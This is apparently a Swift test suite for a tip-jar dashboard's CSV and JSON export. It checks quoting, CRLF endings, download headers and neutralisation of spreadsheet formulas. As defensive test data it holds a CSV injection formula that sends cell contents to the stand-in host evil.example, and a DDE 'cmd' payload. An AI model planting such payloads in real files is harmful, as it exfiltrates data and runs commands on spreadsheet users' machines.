import Foundation
import Testing

@testable import TipJarDashboard

/// `?format=csv|json` on the ledger and the installs list: RFC 4180 CSV with CRLF and quoting,
/// formulas neutralised (OWASP "CSV Injection"), downloads marked as attachments (RFC 6266).
@Suite("CSV and JSON export")
struct ExportTests {
    static let hostileLabel = #"=HYPERLINK("http://evil.example/?"&A1,"Click me")"#

    @Test(arguments: [
        ("plain", "plain"), ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""), ("=a,\"b\"", "\"'=a,\"\"b\"\"\""), ("", ""), ("1-2", "1-2"),
    ])
    func aFieldIsNeutralisedAndQuotedAsNeeded(_ value: String, _ expected: String) {
        #expect(CSVTable.field(value) == expected)
    }

    @Test func recordsEndWithCRLFAndTheHeaderComesFirst() {
        let table = CSVTable(header: ["a", "b"], rows: [["1", "x\ny"], ["2", ""]])
        #expect(table.text == "a,b\r\n1,\"x\ny\"\r\n2,\r\n")
    }

    @Test func theLedgerDownloadsAsCSVWithAHostileLabelNeutralised() async throws {
        try await withLiveServer { server in
            let body = try JSONSerialization.data(withJSONObject: ["label": Self.hostileLabel, "launch": true])
            let created = await server.json("POST", "/api/installs", String(decoding: body, as: UTF8.self))
            let id = try #require(created.object["id"] as? String)
            _ = await server.json("POST", "/api/installs/\(id)/purchases", #"{"productID":"com.example.tipjar.tip.coffee"}"#)
            _ = await server.json("POST", "/api/installs/\(id)/external-purchases", #"{"productID":"=cmd|' /C calc'!A0"}"#)

            let ledger = await server.send("GET", "/api/installs/\(id)/ledger?format=csv")
            #expect(ledger.status == 200)
            #expect(ledger["Content-Type"] == "text/csv; charset=utf-8; header=present")
            #expect(ledger["Content-Disposition"] == "attachment; filename=\"ledger-\(id).csv\"")
            let lines = ledger.body.components(separatedBy: "\r\n")
            #expect(lines.first == "transactionID,productID,path,outcome,finished,at")
            #expect(lines.count == 4 && lines.last == "", "two records, each ended by CRLF")
            #expect(lines[1].hasPrefix("1,com.example.tipjar.tip.coffee,purchase,counted,true,20"))
            #expect(lines[2].hasPrefix("2,'=cmd|' /C calc'!A0,listener,unknownProduct,true,"))

            let installs = await server.send("GET", "/api/installs?format=csv")
            #expect(installs["Content-Disposition"] == "attachment; filename=\"installs.csv\"")
            let records = installs.body.components(separatedBy: "\r\n")
            #expect(records.first == "id,label,locale,storefront,accountID,hearts,legacyHasTipped,isRunning")
            #expect(records.contains { $0.hasPrefix("\(id),\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click me\"\")\",en,USA,") })
            #expect(!installs.body.contains(",=HYPERLINK"), "no field starts with a formula")
        }
    }

    @Test func theJSONExportIsTheAPIShapeAsADownload() async throws {
        try await withLiveServer { server in
            let id = try #require(await server.json("POST", "/api/installs", #"{"launch":true}"#).object["id"] as? String)
            _ = await server.json("POST", "/api/installs/\(id)/purchases", #"{"productID":"com.example.tipjar.tip.coffee"}"#)
            let plain = await server.send("GET", "/api/installs/\(id)/ledger")
            let download = await server.send("GET", "/api/installs/\(id)/ledger?format=json")
            #expect(plain["Content-Disposition"] == nil)
            #expect(download["Content-Disposition"] == "attachment; filename=\"ledger-\(id).json\"")
            #expect(download.body == plain.body)
            let installs = await server.send("GET", "/api/installs?format=json")
            #expect(installs.array.map { $0["id"] as? String } == [id])
        }
    }

    @Test func everyMatchingInstallIsExportedAcrossPages() async throws {
        try await withLiveServer { server in
            for index in 0..<205 { _ = await server.json("POST", "/api/installs", #"{"label":"bulk \#(index)"}"#) }
            _ = await server.json("POST", "/api/installs", #"{"label":"other"}"#)
            let csv = await server.send("GET", "/api/installs?format=csv&q=bulk")
            #expect(csv.body.components(separatedBy: "\r\n").count == 1 + 205 + 1)
        }
    }

    @Test(arguments: ["/api/installs?format=xlsx", "/api/installs/x/ledger?format=CSV"])
    func anUnknownFormatIsRefused(_ target: String) async throws {
        try await withLiveServer { server in
            let id = try #require(await server.json("POST", "/api/installs", "{}").object["id"] as? String)
            let reply = await server.send("GET", target.replacingOccurrences(of: "/x/", with: "/\(id)/"))
            #expect(reply.status == 400)
            #expect(reply.object["error"] as? String == "format must be csv or json.")
        }
    }

    @Test func theInstallPageOffersTheDownloadsAndStoreListsTheScenarios() async throws {
        try await withLiveServer { server in
            let id = try #require(await server.json("POST", "/api/installs", "{}").object["id"] as? String)
            let page = await server.send("GET", "/installs/\(id)")
            #expect(page.body.contains(#"<a href="/api/installs/\#(id)/ledger?format=csv" download>CSV</a>"#))
            #expect(page.body.contains(#"<a href="/api/installs/\#(id)/scenario" download>Save as scenario</a>"#))
            let store = await server.send("GET", "/store")
            #expect(store.body.contains(#"<a href="/scenarios/trap-01-purchase-and-listener-report-the-same-transaction.json" download>"#))
            let file = await server.send("GET", "/scenarios/trap-01-purchase-and-listener-report-the-same-transaction.json")
            #expect(file.status == 200)
            #expect(file["Content-Type"]?.hasPrefix("application/json") == true)
        }
    }
}
